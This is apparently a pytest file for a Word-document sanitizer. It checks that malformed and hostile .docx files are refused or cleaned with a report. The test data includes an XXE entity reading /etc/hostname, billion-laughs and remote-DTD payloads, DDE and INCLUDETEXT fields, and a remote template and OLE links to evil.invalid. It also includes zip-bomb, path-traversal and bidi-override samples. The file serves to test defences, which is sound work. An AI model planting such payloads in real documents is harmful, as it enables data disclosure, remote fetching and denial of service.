"""Broken and hostile files: each is refused by a typed error that names it, or cleaned and told; the rest goes on."""

from __future__ import annotations

import gc
import hashlib
import io
import re
import struct
import zipfile

import docx
import pytest
from helpers.invalid_articles import CHART, SHOWN
from helpers.made_articles import (
    KINDS,
    Piece,
    R,
    article,
    changed,
    field,
    merged,
    names,
    part,
    plain,
    png,
    saved,
    text,
    with_body,
    with_relation,
)

from trafficlight.articles._editor import Editor
from trafficlight.articles._findings import DEFAULT_POLICY, Action, Finding, Kind, Policy, Reason
from trafficlight.errors import SubmissionRefused
from trafficlight.ooxml.archive import LIMITS, Limits

XR = f'xmlns:r="{R}"'
A = 'xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"'
C = 'xmlns:c="http://schemas.openxmlformats.org/drawingml/2006/chart"'
O = 'xmlns:o="urn:schemas-microsoft-com:office:office"'  # noqa: E741  # the prefix by which everyone knows it
V = 'xmlns:v="urn:schemas-microsoft-com:vml"'
GOOD = plain("完好的文章。")
DOCUMENT = "word/document.xml"
TYPES = "[Content_Types].xml"
RELATIONS = "word/_rels/document.xml.rels"


def refusal(data: bytes, **how: object) -> SubmissionRefused:
    """Why a file is refused; the good one beside it is taken all the same."""
    made = merged(data, GOOD, **how)  # type: ignore[arg-type]  # tests pass policy= and limits= on
    assert "完好的文章。" in text(part(made.data))
    (refused,) = made.report.refused
    assert refused.error.file == "单位0：题目0"
    assert str(refused.error) in "\n".join(made.report.lines())
    return refused.error


_HANZI = re.compile(r"[\u3400-\u9fff]")


def reason(data: bytes, **how: object) -> Reason:
    """The reason of a refusal, which is said in both languages."""
    refused = refusal(data, **how)
    assert refused.detail.en
    assert not _HANZI.search(refused.detail.en)
    return Reason(refused.reason)


def findings(data: bytes, policy: Policy | None = None) -> dict[Kind, tuple[str, ...]]:
    """What is told of a file that is taken."""
    made = merged(data, policy=policy or Policy())
    return {finding.kind: finding.details for finding in made.report.taken[0].findings}


def before(mark: bytes, inserted: bytes) -> object:
    """A change that puts bytes before the first mark."""
    return lambda old: old.replace(mark, inserted + mark, 1)


def with_entity(declaration: bytes) -> bytes:
    """A file whose text names an entity."""

    def put(old: bytes) -> bytes:
        declared = old.replace(b"<w:document ", b"<!DOCTYPE x [" + declaration + b"]><w:document ", 1)
        return declared.replace("正文。".encode(), b"&e;", 1)

    return changed(plain(), {DOCUMENT: put})


def flagged(data: bytes, offset: int, value: bytes) -> bytes:
    """A file with bytes changed at an offset into each entry of the directory."""
    made = bytearray(data)
    at = made.find(b"PK\x01\x02")
    while at >= 0:
        made[at + offset : at + offset + len(value)] = value
        at = made.find(b"PK\x01\x02", at + 4)
    return bytes(made)


def zipped(name: str, blob: bytes = b"x") -> bytes:
    """A good file with one more entry of that name."""
    stream = io.BytesIO(GOOD)
    with zipfile.ZipFile(stream, "a") as opened:
        opened.writestr(zipfile.ZipInfo(name), blob)
    return stream.getvalue()


def overlapping() -> bytes:
    """A file whose second entry lies in the first."""
    made = bytearray(GOOD)
    first = made.find(b"PK\x01\x02")
    second = made.find(b"PK\x01\x02", first + 4)
    made[second + 42 : second + 46] = struct.pack("<I", 4)
    return bytes(made)


def with_nul() -> bytes:
    """The good file with a part in whose name NUL hides the rest from some programs."""
    return zipped("word/aXb.xml").replace(b"word/aXb.xml", b"word/a\0b.xml")


LAUGHS = b'<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;"><!ENTITY e "&b;&b;&b;">'

REFUSED: dict[str, tuple[bytes, Reason]] = {
    "empty": (b"", Reason.BROKEN),
    "cut off": (GOOD[: len(GOOD) // 2], Reason.BROKEN),
    "only a signature": (b"PK\x03\x04", Reason.BROKEN),
    "HTML renamed": (b"<html><body>hello</body></html>", Reason.NOT_WORD),
    "RTF renamed": (rb"{\rtf1 hello}", Reason.NOT_WORD),
    "encrypted, or a .doc": (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600), Reason.ENCRYPTED),
    "entries marked as encrypted": (flagged(GOOD, 8, b"\x01\x00"), Reason.ENCRYPTED),
    "method 99": (flagged(GOOD, 10, struct.pack("<H", 99)), Reason.BROKEN),
    "wrong checksum": (flagged(GOOD, 16, b"\0\0\0\0"), Reason.BROKEN),
    "a size that lies": (flagged(GOOD, 24, struct.pack("<I", 77)), Reason.BROKEN),
    "overlapping members": (overlapping(), Reason.BROKEN),
    "a name in two cases": (zipped("WORD/document.xml"), Reason.BROKEN),
    "no content types": (changed(GOOD, {TYPES: None}), Reason.NOT_WORD),
    "no root relationships": (changed(GOOD, {"_rels/.rels": None}), Reason.NOT_WORD),
    "no main part": (changed(GOOD, {DOCUMENT: None}), Reason.NOT_WORD),
    "wrong main content type": (
        changed(GOOD, {TYPES: lambda old: old.replace(b"document.main+xml", b"styles+xml")}),
        Reason.NOT_WORD,
    ),
    "a macro file renamed": (
        changed(
            GOOD,
            {
                TYPES: lambda old: old.replace(
                    b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
                    b"application/vnd.ms-word.document.macroEnabled.main+xml",
                )
            },
        ),
        Reason.MACROS,
    ),
    "macros under a .docx content type": (
        with_relation(
            "vbaProject",
            "vbaProject.bin",
            "",
            parts={"word/vbaProject.bin": ("application/vnd.ms-office.vbaProject", b"x")},
        ),
        Reason.MACROS,
    ),
    "no body": (
        changed(GOOD, {DOCUMENT: f'<w:document xmlns:w="{docx.oxml.ns.nsmap["w"]}"/>'.encode()}),
        Reason.BROKEN,
    ),
    "not XML": (changed(GOOD, {DOCUMENT: b"<w:document"}), Reason.BROKEN),
    "empty main part": (changed(GOOD, {DOCUMENT: b""}), Reason.BROKEN),
    "styles are not XML": (changed(GOOD, {"word/styles.xml": b"\0"}), Reason.BROKEN),
    "billion laughs": (with_entity(LAUGHS), Reason.UNSAFE),
    "external entity": (with_entity(b'<!ENTITY e SYSTEM "file:///etc/hostname">'), Reason.UNSAFE),
    "remote DTD": (with_entity(b'<!ENTITY % p SYSTEM "http://127.0.0.1:9/x.dtd"> %p;<!ENTITY e "x">'), Reason.UNSAFE),
    "entities in relationships": (
        changed(GOOD, {RELATIONS: before(b"<Relationships", b"<!DOCTYPE x [" + LAUGHS + b"]>")}),  # type: ignore[dict-item]
        Reason.UNSAFE,
    ),
    "entities in content types": (
        changed(GOOD, {TYPES: before(b"<Types", b"<!DOCTYPE x [" + LAUGHS + b"]>")}),  # type: ignore[dict-item]
        Reason.UNSAFE,
    ),
    "entities in UTF-16": (
        changed(
            GOOD,
            {
                DOCUMENT: '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE x [<!ENTITY e "x">]><x>&e;</x>'.encode(
                    "utf-16"
                )
            },
        ),
        Reason.UNSAFE,
    ),
    "nesting of 2,000": (with_body("<w:p>" * 2000 + "</w:p>" * 2000), Reason.BROKEN),
    "nothing in it": (saved(docx.Document()), Reason.EMPTY),
    "altChunk": (
        with_relation(
            "aFChunk", "x.html", f'<w:altChunk {XR} r:id="rIdX"/>', parts={"word/x.html": ("text/html", b"x")}
        ),
        Reason.IMPORTED,
    ),
    "subdocument": (
        with_relation("subDocument", "file:///x.docx", f'<w:p><w:subDoc {XR} r:id="rIdX"/></w:p>', external=True),
        Reason.IMPORTED,
    ),
    "a span of 10⁹ columns": (
        with_body(
            '<w:tbl><w:tblPr/><w:tblGrid/><w:tr><w:tc><w:tcPr><w:gridSpan w:val="1000000000"/></w:tcPr><w:p/></w:tc></w:tr></w:tbl>'
        ),
        Reason.TOO_LARGE,
    ),
}


@pytest.mark.parametrize("case", REFUSED)
def test_refused(case: str) -> None:
    """Each of these is refused for its reason, by name; the article beside it is taken."""
    data, expected = REFUSED[case]
    assert reason(data) is expected


def test_past_the_limits() -> None:
    """What is larger than the limits is refused by the directory alone: a bomb is never unpacked."""
    bomb = changed(GOOD, {"word/media/image1.png": bytes(300 << 20)})
    assert len(bomb) < 1 << 20
    (finding,) = merged(bomb).report.taken[0].findings  # nobody reads it: it is named, and left behind
    assert (finding.kind, finding.details) == (Kind.MISSING, ("word/media/image1.png",))
    assert reason(changed(GOOD, {"word/document.xml": b"<w:p/>" * (2 << 20)})) is Reason.TOO_LARGE  # by its ratio
    noisy = changed(GOOD, {"x.bin": hashlib.shake_256(b"noise").digest(1 << 20)})
    assert reason(noisy, limits=Limits(file_bytes=1 << 20)) is Reason.TOO_LARGE
    assert merged(noisy, limits=Limits(unpacked_bytes=1 << 20)).report.taken  # for the noise is not read
    assert reason(with_body("<w:p><w:pPr><w:sectPr/></w:pPr></w:p>" * 2_000)) is Reason.TOO_LARGE
    many = with_body("<w:p/>" * 40_000)
    assert reason(many, limits=Limits(held=39_000)) is Reason.TOO_LARGE
    assert reason(many, limits=Limits(unpacked_bytes=500_000)) is Reason.TOO_LARGE
    assert reason(with_body("<w:p/>" * 200_000), limits=Limits(part_bytes=1 << 20)) is Reason.TOO_LARGE
    assert reason(zipped("x/y"), limits=Limits(entries=len(names(GOOD)))) is Reason.TOO_LARGE


CLEANED: dict[str, tuple[bytes, Kind, str]] = {
    "attached remote template": (
        changed(
            GOOD,
            {
                "word/_rels/settings.xml.rels": (
                    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
                    f'<Relationship Id="rId1" Type="{R}/attachedTemplate" Target="http://evil.invalid/t.dotm" TargetMode="External"/>'
                    "</Relationships>"
                ).encode()
            },
        ),
        Kind.EXTERNAL,
        "evil.invalid",
    ),
    "external picture": (
        with_relation(
            "image",
            "http://evil.invalid/x.png",
            f'<w:p><w:r><w:pict><v:shape {V}><v:imagedata {XR} r:id="rIdX"/></v:shape></w:pict></w:r></w:p>',
            external=True,
        ),
        Kind.EXTERNAL,
        "evil.invalid",
    ),
    "picture by address": (
        with_body(
            f'<w:p><w:r><w:pict><v:shape {V}><v:fill src="http://evil.invalid/x.png"/></v:shape></w:pict></w:r></w:p>'
        ),
        Kind.EXTERNAL,
        "evil.invalid",
    ),
    "embedded OLE": (
        with_relation(
            "oleObject",
            "x.bin",
            f'<w:p><w:r><w:object><v:shape {V}/><o:OLEObject {O} Type="Embed" ProgID="Evil.1" {XR} r:id="rIdX"/></w:object></w:r></w:p>',
            parts={"word/x.bin": ("application/vnd.openxmlformats-officedocument.oleObject", b"evil.invalid")},
        ),
        Kind.EMBEDDED,
        "evil.invalid",
    ),
    "linked OLE": (
        with_relation(
            "oleObject",
            "file://evil.invalid/x.xlsx",
            f'<w:p><w:r><w:object><v:shape {V}/><o:OLEObject {O} Type="Link" ProgID="Excel" {XR} r:id="rIdX"/></w:object></w:r></w:p>',
            external=True,
        ),
        Kind.EXTERNAL,
        "evil.invalid",
    ),
    "hyperlink": (
        with_relation(
            "hyperlink",
            "http://evil.invalid/",
            f'<w:p><w:hyperlink {XR} r:id="rIdX"><w:r><w:t>此处</w:t></w:r></w:hyperlink></w:p>',
            external=True,
        ),
        Kind.HYPERLINKS,
        "evil.invalid",
    ),
    "INCLUDETEXT": (with_body(field("INCLUDETEXT http://evil.invalid/x", "旧文")), Kind.FETCHING, "evil.invalid"),
    "INCLUDEPICTURE": (
        with_body(field("INCLUDEPICTURE http://evil.invalid/x \\d", "图")),
        Kind.FETCHING,
        "evil.invalid",
    ),
    "DDE": (with_body(field("DDEAUTO c:\\\\x evil.invalid", "旧值")), Kind.FETCHING, "evil.invalid"),
    "DDE in pieces": (
        with_body(
            '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DD</w:instrText></w:r>'
            "<w:r><w:instrText>E evil.invalid</w:instrText></w:r>"
            '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
        ),
        Kind.FETCHING,
        "evil.invalid",
    ),
    "DDE in a simple field": (
        with_body('<w:p><w:fldSimple w:instr="DDE evil.invalid"><w:r><w:t>旧值</w:t></w:r></w:fldSimple></w:p>'),
        Kind.FETCHING,
        "evil.invalid",
    ),
    "DOCPROPERTY made for a regular expression": (
        with_body(field("DOCPROPERTY " + '"' + "a\\" * 4000, "值")),
        Kind.FIELDS,
        "DOCPROPERTY",
    ),
    "relationship to nothing": (
        with_relation(
            "image", "media/none.png", f'<w:p><w:r><w:drawing><a:blip {A} {XR} r:embed="rIdX"/></w:drawing></w:r></w:p>'
        ),
        Kind.MISSING,
        "none.png",
    ),
    "relationship NULL": (
        with_relation(
            "image", "NULL", f'<w:p><w:r><w:drawing><a:blip {A} {XR} r:embed="rIdX"/></w:drawing></w:r></w:p>'
        ),
        Kind.MISSING,
        "NULL",
    ),
    "missing footnote": (
        with_body('<w:p><w:r><w:footnoteReference w:id="9"/></w:r></w:p>'),
        Kind.MISSING,
        "footnoteReference",
    ),
    "bidi override": (with_body("<w:p><w:r><w:t>甲\u202e乙</w:t></w:r></w:p>"), Kind.DIRECTION, "\u202e"),
}


@pytest.mark.parametrize("case", CLEANED)
def test_cleaned(case: str) -> None:
    """Each of these is taken out and told; no part of the compendium carries it."""
    data, kind, unseen = CLEANED[case]
    assert kind in findings(data, Policy(embedded=Action.CLEAN))
    made = merged(data)
    with zipfile.ZipFile(io.BytesIO(made.data)) as opened:
        everything = b"".join(opened.read(name) for name in opened.namelist())
    assert unseen.encode() not in everything
    assert b'TargetMode="External"' not in everything
    assert "正文。" in text(part(made.data)) or "完好的文章。" in text(part(made.data))


@pytest.mark.parametrize("kind", Kind)
def test_told_in_both_languages(kind: Kind) -> None:
    """What was not kept as sent is told in Chinese or English, as the reader asks."""
    finding = Finding(kind, 2, ("a.png",))
    assert finding.say() == str(finding) == f"{kind.words}（2处）：a.png"
    assert finding.say("en") == f"{kind.words.en} (2): a.png"
    assert not _HANZI.search(finding.say("en"))


POLICIES = {
    "attached remote template": "external",
    "external picture": "external",
    "embedded OLE": "embedded",
    "linked OLE": "external",
    "hyperlink": "hyperlinks",
    "INCLUDETEXT": "fields",
}


@pytest.mark.parametrize("case", POLICIES)
def test_refused_by_policy(case: str) -> None:
    """What is cleaned by default is refused where the policy says so, and the refusal says which rule it was."""
    data, _, _ = CLEANED[case]
    rule = POLICIES[case]
    policy = Policy(**{rule: Action.REFUSE})
    assert reason(data, policy=policy) == rule
    with pytest.raises(ValueError, match="perhaps"):
        Policy(macros="perhaps")


def test_relationships_in_circles() -> None:
    """Parts that refer to each other in circles, or to thousands of others, are read once or not at all."""
    chart = CHART.format(extra="", count="").encode()
    kind = "application/vnd.openxmlformats-officedocument.drawingml.chart+xml"
    rows = "".join(
        f'<Relationship Id="rId{number}" Type="{R}/chart" Target="chart{number % 9}.xml"/>' for number in range(99)
    )
    relations = (
        f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{rows}</Relationships>'
    ).encode()
    data = with_relation(
        "chart",
        "charts/chart0.xml",
        SHOWN,
        parts={f"word/charts/chart{number}.xml": (kind, chart) for number in range(9)},
    )
    data = changed(data, {f"word/charts/_rels/chart{number}.xml.rels": relations for number in range(9)})
    assert [name for name in names(merged(data).data) if "chart" in name] == ["word/charts/chart1.xml"]


def test_a_chart_comes_without_its_workbook() -> None:
    """A chart keeps what it shows; the workbook behind it stays out, and so does the address of one elsewhere."""
    external = f'</c:chart><c:externalData {XR} r:id="rId1"/>'
    chart = CHART.format(extra="", count="").replace("</c:chart>", external).encode()
    relations = (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="rId1" Type="{R}/package" Target="../embeddings/x.xlsx"/></Relationships>'
    ).encode()
    data = with_relation(
        "chart",
        "charts/chart1.xml",
        SHOWN,
        parts={"word/charts/chart1.xml": ("application/vnd.openxmlformats-officedocument.drawingml.chart+xml", chart)},
    )
    data = changed(data, {"word/charts/_rels/chart1.xml.rels": relations, "word/embeddings/x.xlsx": b"book"})
    made = merged(data)
    assert made.report.taken[0].findings[0].kind is Kind.EMBEDDED
    assert b"externalData" not in zipfile.ZipFile(io.BytesIO(made.data)).read("word/charts/chart1.xml")
    assert not any("embeddings" in name for name in names(made.data))


def test_thousands_of_notes_and_properties() -> None:
    """3,000 footnotes take no longer than they are many."""
    notes = "".join(
        f'<w:footnote w:id="{number}"><w:p><w:r><w:t>注{number}</w:t></w:r></w:p></w:footnote>'
        for number in range(1, 3001)
    )
    blob = f'<w:footnotes xmlns:w="{docx.oxml.ns.nsmap["w"]}">{notes}</w:footnotes>'.encode()
    body = "".join(f'<w:p><w:r><w:footnoteReference w:id="{number}"/></w:r></w:p>' for number in range(1, 3001))
    kind = "application/vnd.openxmlformats-officedocument.wordprocessingml.footnotes+xml"
    made = merged(with_relation("footnotes", "footnotes.xml", body, parts={"word/footnotes.xml": (kind, blob)}))
    assert text(part(made.data, "word/footnotes.xml")).count("注") == 3000


@pytest.mark.parametrize(
    ("kind", "name", "damaged"),
    [
        ("header", "word/header9.xml", "word/header9.xml"),
        ("footer", "word/footer9.xml", "word/footer9.xml"),
        ("comments", "word/comments.xml", "word/comments.xml"),
        ("settings", "word/settings9.xml", "word/_rels/settings9.xml.rels"),
    ],
)
def test_a_damaged_part_that_is_left_behind_refuses_nothing(kind: str, name: str, damaged: str) -> None:
    """What the compendium never takes along may be damaged: the article is taken, and the report names the part."""
    data = with_relation(
        kind, name.removeprefix("word/"), "<w:p><w:r><w:t>正文</w:t></w:r></w:p>", parts={name: ("x/xml", b"<a/>")}
    )
    if kind == "settings":  # the first that is named is the one that counts
        data = changed(
            data,
            {RELATIONS: lambda old: re.sub(rb'<Relationship [^>]*/settings"[^>]*Target="settings.xml"/>', b"", old)},
        )
    made = merged(changed(data, {damaged: b"<a><b>"}))
    (taken,) = made.report.taken
    assert [finding.kind for finding in taken.findings] == [Kind.MISSING]
    assert damaged in taken.findings[0].details[0]
    assert "正文" in text(part(made.data))


@pytest.mark.parametrize("data", [with_nul(), zipped("../x.xml"), zipped("//x.xml")], ids=["NUL", "leaves", "absolute"])
def test_a_name_that_no_part_may_have_refuses_nothing(data: bytes) -> None:
    """Nothing can ask for such a part: the article is taken, the report names it, and no book has it."""
    made = merged(data)
    (taken,) = made.report.taken
    assert [(finding.kind, finding.count) for finding in taken.findings] == [(Kind.MISSING, 1)]
    assert made.data == merged(GOOD).data


def test_the_collector_rests_while_an_article_is_cleaned() -> None:
    """A large article is held as a whole: no pass looks through it again and again, and the collector is on afterwards."""
    passes: list[str] = []
    data = with_body("".join(field("IF 1", str(number)) for number in range(2000)))
    note = lambda phase, _: passes.append(phase)  # noqa: E731
    gc.callbacks.append(note)
    try:
        Editor(policy=DEFAULT_POLICY, limits=LIMITS).prepare(data, file="长.docx", headings=())
    finally:
        gc.callbacks.remove(note)
    assert passes.count("start") < 5  # one of each generation, at the end
    assert gc.isenabled()


def strict(data: bytes) -> bytes:
    """The file as Word saves it under “Strict Open XML”."""
    space = re.compile(
        rb"http://schemas\.openxmlformats\.org/(wordprocessingml|officeDocument|drawingml)/2006/([A-Za-z]+)"
    )
    return changed(
        data,
        {
            name: (lambda old: space.sub(rb"http://purl.oclc.org/ooxml/\1/\2", old))
            for name in names(data)
            if name.endswith((".xml", ".rels")) and name != TYPES
        },
    )


def test_a_strict_file_is_read() -> None:
    """A file of the strict format gives what the same file gives without: text, styles, lists, tables and pictures."""
    data = article([Piece(kind, number) for number, kind in enumerate(KINDS)])
    assert b"purl.oclc.org" in zipfile.ZipFile(io.BytesIO(strict(data))).read(DOCUMENT)
    assert merged(strict(data)).data == merged(data).data


def test_a_picture_of_the_article_is_kept() -> None:
    """The cases above are seen to fail for what they plant: the same picture inside the file stays."""
    data = with_relation(
        "image",
        "media/own.png",
        f'<w:p><w:r><w:pict><v:shape {V}><v:imagedata {XR} r:id="rIdX"/></v:shape></w:pict></w:r></w:p>',
        parts={"word/media/own.png": ("image/png", png(7))},
    )
    made = merged(data)
    assert made.report.taken[0].findings == ()
    (name,) = (name for name in names(made.data) if "media" in name)
    assert zipfile.ZipFile(io.BytesIO(made.data)).read(name) == png(7)
